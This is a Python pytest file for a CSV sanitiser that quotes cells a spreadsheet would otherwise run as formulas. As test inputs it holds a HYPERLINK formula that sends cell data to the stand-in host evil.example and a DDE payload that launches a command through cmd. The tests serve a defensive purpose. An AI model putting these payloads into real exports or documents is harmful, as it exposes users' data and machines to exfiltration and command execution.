from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from opsdash.lib.csvsafe import safe_cell, safe_row

DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]


@pytest.mark.parametrize("first", DANGEROUS)
def test_it_quotes_text_a_spreadsheet_would_run_as_a_formula(first):
    formula = first + 'HYPERLINK("https://evil.example/?"&A1)'
    assert safe_cell(formula) == "'" + formula


@pytest.mark.parametrize("value", ["acme", "Acme Corp", "", "1+1", " =1+1", "a=b", "'=already quoted"])
def test_it_leaves_other_text_alone(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [0, 42, -42, -0.5, 1.5e-9, Decimal("-12.340000"), Decimal("7"), None, True])
def test_it_leaves_numbers_and_empty_values_as_they_are(value):
    assert safe_cell(value) is value


@pytest.mark.parametrize("value", ["-0.500000", "-12", "0.000001"])
def test_it_leaves_amounts_written_as_text_alone(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", ["-1+2", "-2-3", "-1.5.5", "-", "+1", "-1e3", "-0x10"])
def test_it_quotes_text_that_only_looks_like_a_number_at_first(value):
    assert safe_cell(value) == "'" + value


def test_it_quotes_other_objects_by_their_text():
    class Named:
        def __str__(self) -> str:
            return "=cmd|' /C calc'!A0"

    assert safe_cell(Named()) == "'=cmd|' /C calc'!A0"


def test_it_makes_a_row_that_reads_back_as_text():
    row = safe_row(["=1+1", "\rcmd", 3, Decimal("-1.25"), None, "plain"])
    out = io.StringIO()
    csv.writer(out).writerow(row)
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'=1+1", "'\rcmd", "3", "-1.25", "", "plain"]
